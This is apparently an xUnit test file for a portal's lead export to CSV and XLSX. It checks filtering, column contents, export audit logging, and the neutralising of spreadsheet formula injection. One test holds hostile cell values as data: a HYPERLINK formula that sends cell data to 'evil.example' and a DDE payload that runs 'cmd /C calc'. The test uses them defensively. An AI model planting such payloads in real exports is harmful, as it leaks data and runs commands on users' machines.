using Microsoft.EntityFrameworkCore;
using ProgramPortal.Identity;
using ProgramPortal.Leads;
using ProgramPortal.Leads.Export;
using ProgramPortal.Tests.Infrastructure;

namespace ProgramPortal.Tests.LeadsAdmin;

public class LeadExportTests(LeadApp app) : IClassFixture<LeadApp>
{
    private static readonly string[] Headings =
    [
        "Lead ID", "First name", "Last name", "Email", "Phone", "Country", "Track", "Start term", "Years of experience",
        "Status", "First came from", "Came in (America/Los_Angeles)", "Latest inquiry (America/Los_Angeles)",
        "Unsubscribed (America/Los_Angeles)", "Consent version", "Latest message", "Staff notes",
    ];

    // The portal's default zone, computed here independently of the app.
    private static DateTime InLosAngeles(DateTimeOffset time) =>
        TimeZoneInfo.ConvertTime(time, TimeZoneInfo.FindSystemTimeZoneById("America/Los_Angeles")).DateTime;

    [Fact]
    public async Task The_download_links_on_a_filtered_list_give_exactly_its_leads_in_both_formats()
    {
        await app.CopyLeadsAsync(
        [
            LeadRecords.Make("Grace", "Hopper", app.DaysAgo(3), status: LeadStatus.Contacted, source: "spring-fair", country: "US"),
            LeadRecords.Make("José", "Ñúñez", app.DaysAgo(2), status: LeadStatus.Contacted, source: "spring-fair", country: "MX", track: TrackInterest.IS),
            LeadRecords.Make("小龙", "李", app.DaysAgo(1), status: LeadStatus.Contacted, source: "spring-fair", country: "CN", email: "li@example.cn"),
            LeadRecords.Make("Alan", "Turing", app.DaysAgo(1), status: LeadStatus.New, source: "spring-fair"),
            LeadRecords.Make("Ada", "Byron", app.DaysAgo(1), status: LeadStatus.Contacted, source: "autumn-fair"),
        ]);
        using var admissions = await app.LoginAsAsync(StaffRoles.Admissions);

        var list = await admissions.GetAsync("/admin/leads?source=spring-fair&status=Contacted&sort=Oldest");
        Assert.Contains("3 leads", list.Text);
        var csvUrl = list.Document.QuerySelector("a[href^='/admin/leads/export/csv']")!.GetAttribute("href")!;
        var xlsxUrl = list.Document.QuerySelector("a[href^='/admin/leads/export/xlsx']")!.GetAttribute("href")!;
        Assert.Equal("/admin/leads/export/csv?status=Contacted&source=spring-fair&sort=Oldest", csvUrl);

        var csv = ExportFiles.ReadCsv(await admissions.DownloadAsync(csvUrl, "text/csv"));
        var xlsx = ExportFiles.ReadXlsx(await admissions.DownloadAsync(xlsxUrl, LeadExporter.ContentType(ExportFormat.Xlsx)));

        foreach (var rows in new[] { csv, xlsx })
        {
            Assert.Equal(Headings, rows[0]);
            Assert.Equal(["Hopper", "Ñúñez", "李"], rows.Skip(1).Select(r => r[2]));
            Assert.All(rows.Skip(1), r => Assert.Equal(Headings.Length, r.Length));
        }

        await using var db = app.NewDbContext();
        var jose = await db.Leads.SingleAsync(l => l.LastName == "Ñúñez");
        var csvJose = csv[2];
        Assert.Equal([jose.Id.ToString(), "José", "Ñúñez", "josé.ñúñez@example.com", "", "Mexico", "Information Systems (IS)",
            "Fall 2027", "5", "Contacted", "spring-fair", InLosAngeles(jose.CreatedAt).ToString("yyyy-MM-dd HH:mm"),
            InLosAngeles(jose.LastInquiryAt).ToString("yyyy-MM-dd HH:mm"), "", ConsentStatement.Version, "", "0"], csvJose);

        // The spreadsheet keeps numbers as numbers and times as real dates, and the text exactly.
        var xlsxJose = xlsx[2];
        Assert.Equal(jose.Id.ToString(), xlsxJose[0]);
        Assert.Equal(csvJose[1..8], xlsxJose[1..8]);
        Assert.Equal("5", xlsxJose[8]);
        Assert.Equal(InLosAngeles(jose.CreatedAt), ExportFiles.FromExcelDate(xlsxJose[11]), TimeSpan.FromMilliseconds(1));
    }

    [Fact]
    public async Task Values_that_a_spreadsheet_would_run_as_formulas_come_out_as_text_quoted_in_csv_and_as_typed_in_xlsx()
    {
        string[] hostile = ["=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1",
            "\tTabbed", "\rReturned"];
        await app.CopyLeadsAsync(hostile.Select((value, i) =>
            LeadRecords.Make(value, "Hostile" + i, app.DaysAgo(1), email: $"hostile{i}@example.com", source: value, country: "NZ",
                phone: "+64 555 0100")));
        using var admissions = await app.LoginAsAsync(StaffRoles.Admissions);

        var csv = ExportFiles.ReadCsv(await admissions.DownloadAsync("/admin/leads/export/csv?country=NZ&sort=Name", "text/csv"));
        var xlsx = ExportFiles.ReadXlsx(await admissions.DownloadAsync("/admin/leads/export/xlsx?country=NZ&sort=Name",
            LeadExporter.ContentType(ExportFormat.Xlsx)));

        // A CSV cell has no type, so the quote in front keeps a spreadsheet from evaluating it.
        var csvData = csv.Skip(1).ToList();
        Assert.Equal(hostile.Select(v => "'" + v), csvData.Select(r => r[1]));
        Assert.Equal(hostile.Select(v => "'" + v), csvData.Select(r => r[10]));
        Assert.All(csvData, r => Assert.Equal("'+64 555 0100", r[4]));

        // An XLSX string cell is text whatever it starts with (ReadXlsx fails on any formula), so the
        // values, and an international phone number, read exactly as typed. XML turns a carriage
        // return in cell text into a line feed, as Excel reads it.
        var xlsxData = xlsx.Skip(1).ToList();
        Assert.Equal(hostile.Select(v => v.Replace('\r', '\n')), xlsxData.Select(r => r[1]));
        Assert.Equal(hostile.Select(v => v.Replace('\r', '\n')), xlsxData.Select(r => r[10]));
        Assert.All(xlsxData, r => Assert.Equal("+64 555 0100", r[4]));
        Assert.All(csvData.Concat(xlsxData), r => Assert.StartsWith("Hostile", r[2]));
    }

    [Fact]
    public async Task An_export_carries_each_persons_latest_message_and_how_many_notes_staff_wrote()
    {
        async Task SubmitAsync(string email, string lastName, string message)
        {
            var form = app.ValidForm(email);
            form["Input.LastName"] = lastName;
            form["Input.Message"] = message;
            using (await app.SubmitLeadAsync(form, formPath: "/request-info?utm_source=message-export")) { }
        }

        const string latest = "- Is the GRE required?\n- Can I start in spring?";
        await SubmitAsync("asker@example.com", "Asker", "First question: is it online?");
        app.Clock.Advance(TimeSpan.FromDays(1));
        await SubmitAsync("asker@example.com", "Asker", latest);
        await SubmitAsync("silent@example.com", "Silent", "");
        using var admissions = await app.LoginAsAsync(StaffRoles.Admissions);
        var lead = await admissions.GetAsync($"/admin/leads/{await app.LeadIdAsync("asker@example.com")}");
        lead = await admissions.SubmitAsync(lead, "form[action*='handler=Note']", ("Note.Text", "Called her back."));
        await admissions.SubmitAsync(lead, "form[action*='handler=Note']", ("Note.Text", "Sent the GRE waiver form."));

        const string filter = "?source=message-export&sort=Name";
        var csv = ExportFiles.ReadCsv(await admissions.DownloadAsync("/admin/leads/export/csv" + filter, "text/csv"));
        var xlsx = ExportFiles.ReadXlsx(await admissions.DownloadAsync("/admin/leads/export/xlsx" + filter,
            LeadExporter.ContentType(ExportFormat.Xlsx)));

        var message = Array.IndexOf(Headings, "Latest message");
        var notes = Array.IndexOf(Headings, "Staff notes");
        foreach (var rows in new[] { csv, xlsx })
        {
            Assert.Equal(Headings, rows[0]);
            Assert.Equal(["Asker", "Silent"], rows.Skip(1).Select(r => r[2]));
            Assert.Equal(["2", "0"], rows.Skip(1).Select(r => r[notes]));
            Assert.Equal("", rows[2][message]);
        }

        // The message starts with "-": quoted in the CSV only, and its line break kept in both.
        Assert.Equal("'" + latest, csv[1][message]);
        Assert.Equal(latest, xlsx[1][message]);
    }

    [Fact]
    public async Task Every_export_is_recorded_and_admins_see_who_took_which_leads()
    {
        await app.CopyLeadsAsync([LeadRecords.Make("Record", "Kept", app.DaysAgo(1), source: "logged-source", country: "CA")]);
        using var admissions = await app.LoginAsAsync(StaffRoles.Admissions);
        await admissions.DownloadAsync("/admin/leads/export/xlsx?source=logged-source&country=ca", LeadExporter.ContentType(ExportFormat.Xlsx));

        await using (var db = app.NewDbContext())
        {
            var record = await db.LeadExports.OrderByDescending(e => e.Id).FirstAsync();
            Assert.StartsWith("admissions-", record.ExportedBy);
            Assert.Equal(ExportFormat.Xlsx, record.Format);
            Assert.Equal("?country=CA&source=logged-source", record.Filter);
            Assert.Equal(1, record.RowCount);
            Assert.NotNull(record.CompletedAt);
        }

        var denied = await admissions.GetAsync("/admin/staff/lead-exports");
        Assert.Equal("/admin/denied", denied.Url.AbsolutePath);

        using var admin = await app.LoginAsAsync(StaffRoles.Admin);
        var log = await admin.GetAsync("/admin/staff/lead-exports");
        var row = log.Document.QuerySelectorAll("table tr").First(r => r.TextContent.Contains("logged-source"));
        Assert.Contains("admissions-", row.TextContent);
        Assert.Contains("Excel", row.TextContent);
        Assert.Contains("Leads with country Canada, source \"logged-source\"; sorted by newest first", row.TextContent);
        Assert.Equal("/admin/leads?country=CA&source=logged-source", row.QuerySelector("a")!.GetAttribute("href"));
        Assert.EndsWith("1", row.QuerySelectorAll("td").Last().TextContent.Trim());
    }

    [Fact]
    public async Task An_unknown_format_is_not_found_and_a_mistyped_filter_still_exports()
    {
        using var admissions = await app.LoginAsAsync(StaffRoles.Admissions);

        using var unknown = await admissions.Client.GetAsync("/admin/leads/export/pdf");
        Assert.Equal(System.Net.HttpStatusCode.NotFound, unknown.StatusCode);
        var rows = ExportFiles.ReadCsv(await admissions.DownloadAsync(
            "/admin/leads/export/csv?from=yesterday&status=Maybe&to=9999-12-31&country=ZZ&source=nobody-uses-this", "text/csv"));
        Assert.Equal(Headings, Assert.Single(rows));
    }
}
